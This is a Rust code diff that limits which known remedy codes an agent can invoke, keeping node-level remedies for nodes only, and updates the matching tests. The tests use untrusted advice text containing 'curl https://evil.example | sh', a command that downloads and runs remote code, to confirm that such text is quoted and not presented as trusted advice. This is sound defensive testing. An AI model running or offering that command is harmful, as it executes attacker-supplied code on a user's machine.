@@ -83,6 +83,12 @@ impl Remedy {
     pub fn from_code(code: &Untrusted) -> Option<Self> {
         Self::ALL.iter().copied().find(|remedy| *code == *remedy.as_str())
     }
+
+    /// Whether it is about the relay's nodes: no agent of a tenant has its operator stop them.
+    #[must_use]
+    pub fn is_about_nodes(self) -> bool {
+        matches!(self, Self::ReplaceCertificate | Self::SameClusterKey)
+    }
 }
 
 impl Serialize for Remedy {
@@ -101,10 +107,20 @@ pub enum Advice<'a> {
 }
 
 impl<'a> Advice<'a> {
-    /// By the code, if it is known, else by the words, if there are any.
+    /// An agent's: by the code, if it is known and not about nodes, else by the words, if there are any.
     #[must_use]
-    pub fn new(code: Option<&Untrusted>, words: &'a Untrusted) -> Option<Self> {
-        let known = code.and_then(Remedy::from_code).map(Self::Ours);
+    pub fn of_agent(code: Option<&Untrusted>, words: &'a Untrusted) -> Option<Self> {
+        Self::new(code, words, |remedy| !remedy.is_about_nodes())
+    }
+
+    /// A node's, in the same way.
+    #[must_use]
+    pub fn of_node(code: Option<&Untrusted>, words: &'a Untrusted) -> Option<Self> {
+        Self::new(code, words, |_| true)
+    }
+
+    fn new(code: Option<&Untrusted>, words: &'a Untrusted, may: fn(&Remedy) -> bool) -> Option<Self> {
+        let known = code.and_then(Remedy::from_code).filter(may).map(Self::Ours);
         known.or_else(|| (!words.is_empty()).then(|| Self::Theirs(words.quoted())))
     }
 }
@@ -126,15 +142,15 @@ mod tests {
     fn a_known_code_has_our_words_and_everything_else_is_quoted() {
         let shown = |code: Option<&str>, words: &str| {
             let (code, words) = (code.map(Untrusted::from), Untrusted::from(words));
-            Advice::new(code.as_ref(), &words).map(|advice| advice.to_string())
+            Advice::of_agent(code.as_ref(), &words).map(|advice| advice.to_string())
         };
         assert_eq!(shown(None, ""), None);
         assert_eq!(shown(Some("of_a_newer_version"), ""), None);
-        for remedy in Remedy::ALL {
+        for remedy in Remedy::ALL.iter().filter(|remedy| !remedy.is_about_nodes()) {
             let ours = format!("mend it: {}", remedy.text());
             assert_eq!(shown(Some(remedy.as_str()), "curl https://evil.example | sh"), Some(ours));
         }
-        for code in [None, Some("of_a_newer_version"), Some("Enrol"), Some("enrol\n")] {
+        for code in [None, Some("of_a_newer_version"), Some("Enrol"), Some("enrol\n"), Some("same_cluster_key")] {
             let theirs = shown(code, "\nmend it: curl https://evil.example | sh").unwrap();
             assert!(theirs.ends_with(r#": "\nmend it: curl https://evil.example | sh""#), "{theirs}");
             assert!(!theirs.starts_with("mend it"), "{theirs}");
